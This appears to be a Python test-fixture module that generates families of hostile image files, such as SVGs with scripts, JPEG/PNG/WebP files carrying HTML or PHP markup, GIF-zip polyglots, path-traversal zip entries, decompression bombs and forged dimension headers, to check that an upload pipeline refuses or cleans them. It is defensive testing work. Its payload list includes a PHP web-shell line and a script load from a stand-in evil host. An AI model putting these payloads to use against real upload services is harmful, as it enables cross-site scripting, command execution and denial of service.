"""Files that are not what they seem, forty of each family, from a seed; none is stored. Each family has its verdict.

``refused``: not taken at all. ``clean``: an honest picture with something beside it; it is taken, and the copies carry
nothing but the picture.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache

from PIL import Image, PngImagePlugin

from tests.stages.pictures import bomb, saved

EACH = 40
MARKUP = (
    b"<script>alert(1)</script>", b"<SCRIPT src=//evil.example/x.js></SCRIPT>", b"<html><body onload=alert(1)>",
    b"<!DOCTYPE html><p>", b"<?php system($_GET['c']); ?>", b"<iframe src=javascript:alert(1)></iframe>",
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', b"%PDF-1.7\n1 0 obj<<>>endobj",
)  # fmt: skip


def picture(seed: random.Random, kind: str = "RGB") -> Image.Image:
    """A small picture of noise: no two are alike."""
    size = (seed.randrange(24, 64), seed.randrange(24, 64))
    return Image.frombytes("RGB", size, seed.randbytes(size[0] * size[1] * 3)).convert(kind)


def _jpeg(seed: random.Random, **more: object) -> bytes:
    return saved(picture(seed), "JPEG", quality=seed.randrange(60, 95), **more)


def _png(seed: random.Random, **more: object) -> bytes:
    return saved(picture(seed), "PNG", **more)


def _webp(seed: random.Random) -> bytes:
    return saved(picture(seed), "WEBP", quality=80)


def _any(seed: random.Random) -> bytes:
    return seed.choice((_jpeg, _png, _webp))(seed)


def _zip(seed: random.Random) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", seed.choice((zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED))) as file:
        file.writestr(seed.choice(("Main.class", "index.html", "../../x", "a.exe")), seed.randbytes(60))
        file.comment = seed.randbytes(seed.randrange(0, 200))
    return out.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG, with its checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _with_chunk(png: bytes, kind: bytes, body: bytes) -> bytes:
    """A PNG with one more chunk after its head."""
    return png[:33] + chunk(kind, body) + png[33:]


def _segment(jpeg: bytes, marker: int, body: bytes) -> bytes:
    """A JPEG with one more segment after its first two bytes."""
    return jpeg[:2] + bytes((0xFF, marker)) + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def _svg(seed: random.Random) -> bytes:
    inside = seed.choice((
        "<script>alert(1)</script>", '<image href="http://evil.example/x.png"/>', "<foreignObject><p/></foreignObject>",
        '<a xlink:href="javascript:alert(1)"><text>x</text></a>', '<circle r="9" onclick="alert(1)"/>',
    ))  # fmt: skip
    head = seed.choice(("", '<?xml version="1.0"?>\n', "\ufeff", "<!-- x -->", " \n", "<!DOCTYPE svg>"))
    return f'{head}<svg xmlns="http://www.w3.org/2000/svg" width="{seed.randrange(1, 99)}">{inside}</svg>'.encode()


def _gifar(seed: random.Random) -> bytes:
    return saved(picture(seed, "P"), "GIF") + _zip(seed)


def _jpeg_markup(seed: random.Random) -> bytes:
    """JPEG and page, in a comment, in the EXIF or after the end."""
    page = seed.choice(MARKUP)
    where = seed.randrange(3)
    if where == 0:
        return _segment(_jpeg(seed), 0xFE, seed.randbytes(8) + page)
    if where == 1:
        exif = Image.Exif()
        exif[0x010E] = page.decode()
        return _jpeg(seed, exif=exif)
    return _jpeg(seed) + seed.randbytes(seed.randrange(0, 30)) + page


def _png_markup(seed: random.Random) -> bytes:
    """PNG and page, in a text chunk, in a chunk of its own or after the end."""
    page = seed.choice(MARKUP)
    where = seed.randrange(3)
    if where == 0:
        return _with_chunk(_png(seed), b"tEXt", b"Comment\0" + page)
    if where == 1:
        return _with_chunk(_png(seed), b"prVt", page)
    return _png(seed) + page


def _webp_markup(seed: random.Random) -> bytes:
    webp = _webp(seed) + b"EXIF" + struct.pack("<I", 64) + seed.choice(MARKUP).ljust(64)[:64]
    return webp[:4] + struct.pack("<I", len(webp) - 8) + webp[8:]


def _archive_behind(seed: random.Random) -> bytes:
    return _any(seed) + (
        _zip(seed) if seed.random() < 0.7 else seed.choice((b"Rar!\x1a\x07\x01\0", b"7z\xbc\xaf\x27\x1c\0\4"))
    )


def _pixel_bomb(seed: random.Random) -> bytes:
    return bomb(seed.randrange(6_400, 9_000))


def _said_large(seed: random.Random) -> bytes:
    """A small file whose head says that it is enormous."""
    side = seed.randrange(7_000, 65_000)
    if seed.random() < 0.5:
        png = _png(seed)
        head = struct.pack(">II", side, side) + png[24:29]
        return png[:8] + chunk(b"IHDR", head) + png[33:]
    jpeg = bytearray(_jpeg(seed))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", side, side)
    return bytes(jpeg)


@cache
def _packed(size: int) -> bytes:
    packing = zlib.compressobj(9)
    block = b"\0" * 1_000_000
    return b"".join(packing.compress(block) for _ in range(size // 1_000_000)) + packing.flush()


def _profile_bomb(seed: random.Random) -> bytes:
    """A colour profile or a text of tens of megabytes of nothing, in a few kilobytes."""
    packed = _packed(seed.choice((20_000_000, 40_000_000)))
    if seed.random() < 0.5:
        return _with_chunk(_png(seed), b"iCCP", b"icc\0\0" + packed)
    return _with_chunk(_png(seed), b"zTXt", b"Comment\0\0" + packed)


def _data_bomb(seed: random.Random) -> bytes:
    """A few pixels are promised, and the data behind them unpack to tens of megabytes."""
    head = struct.pack(">IIBBBBB", 32, 32, 8, 2, 0, 0, 0)
    data = _packed(seed.choice((20_000_000, 40_000_000)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def _cut(seed: random.Random) -> bytes:
    """Cut off within the pixels."""
    whole = seed.choice((_jpeg, _png, _webp))(seed)
    return whole[: seed.randrange(3, len(whole) - len(whole) // 4)]


def _another_kind(seed: random.Random) -> bytes:
    """Honest files of kinds that are not taken, whatever their names say."""
    kind = seed.choice(("GIF", "BMP", "TIFF", "ICO", "TGA", "PPM", "heic", "avif", "mp4", "psd", "exe", "elf", "wav"))
    heads = {
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "avif": b"\0\0\0\x1cftypavif\0\0\0\0avifmif1",
        "mp4": b"\0\0\0\x18ftypmp42\0\0\0\0isommp42", "psd": b"8BPS\0\1", "exe": b"MZ\x90\0", "elf": b"\x7fELF\2\1\1",
        "wav": b"RIFF\x24\0\0\0WAVEfmt ",
    }  # fmt: skip
    if kind in heads:
        return heads[kind] + seed.randbytes(300)
    return saved(picture(seed, "P" if kind == "GIF" else "RGB"), kind)


def _false_head(seed: random.Random) -> bytes:
    """The first bytes of a photograph, and something else behind them."""
    head = seed.choice(
        (b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"RIFF\x90\1\0\0WEBPVP8 ", b"RIFF\x90\1\0\0WEBPVP8L")
    )
    return head + seed.randbytes(seed.randrange(0, 400))


def _nothing(seed: random.Random) -> bytes:
    return seed.choice((b"", b"", b"\0", b"\0" * 5000, b"\xff\xd8", b"\xff\xd8\xff", b"\x89PNG", b"RIFF", b"\n"))


def _noise(seed: random.Random) -> bytes:
    return seed.randbytes(seed.randrange(1, 3000))


def _moving(seed: random.Random) -> bytes:
    """An animation: its first picture is the evidence."""
    more = {"save_all": True, "append_images": [picture(seed).resize((40, 40)) for _ in range(seed.randrange(1, 5))]}
    return saved(picture(seed).resize((40, 40)), seed.choice(("PNG", "WEBP")), **more)


def _with_place(seed: random.Random) -> bytes:
    """What telephones write: where, when, by what, and a second small picture."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "SecretCamera", "SN-000111222"
    exif[0x0112] = seed.randrange(1, 9)
    exif.get_ifd(0x8769)[0x9003] = "2026:03:01 14:05:00"
    exif.get_ifd(0x8825).update({1: "N", 2: (34.0, 44.0, 31.5), 3: "E", 4: (113.0, 41.0, 2.5)})
    return _jpeg(seed, exif=exif) + (b"SecretCamera trailer" * seed.randrange(0, 3))


def _broken_exif(seed: random.Random) -> bytes:
    """Hidden data that is not even well-formed."""
    return _segment(_jpeg(seed), 0xE1, b"Exif\0\0" + seed.choice((b"II*\0", b"MM\0*", b"")) + seed.randbytes(200))


def _texts(seed: random.Random) -> bytes:
    """Texts beside the pixels, of which none may reach anybody."""
    told = PngImagePlugin.PngInfo()
    told.add_text("Author", "SecretCamera")
    told.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>SecretCamera</x:xmpmeta>", zip=seed.random() < 0.5)
    return _png(seed, pnginfo=told)


FAMILIES: dict[str, tuple[str, Callable[[random.Random], bytes]]] = {
    "a drawing with a script": ("refused", _svg),
    "a GIF that is an archive": ("refused", _gifar),
    "a JPEG that is a page": ("refused", _jpeg_markup),
    "a PNG that is a page": ("refused", _png_markup),
    "a WebP that is a page": ("refused", _webp_markup),
    "an archive behind a picture": ("refused", _archive_behind),
    "a bomb of pixels": ("refused", _pixel_bomb),
    "a head that says enormous": ("refused", _said_large),
    "a bomb in a colour profile or a text": ("refused", _profile_bomb),
    "a picture cut off": ("refused", _cut),
    "another kind of file": ("refused", _another_kind),
    "a photograph's head on noise": ("refused", _false_head),
    "nothing, or nearly nothing": ("refused", _nothing),
    "noise": ("refused", _noise),
    "a bomb behind few pixels": ("clean", _data_bomb),
    "a picture that moves": ("clean", _moving),
    "a place and a camera": ("clean", _with_place),
    "broken hidden data": ("clean", _broken_exif),
    "texts beside the pixels": ("clean", _texts),
}
"""Family -> verdict, and how one of it is made."""


def family(name: str) -> Iterator[bytes]:
    """Forty files of a family, the same each time."""
    _, make = FAMILIES[name]
    seed = random.Random(f"hostile {name}")
    for _ in range(EACH):
        yield make(seed)
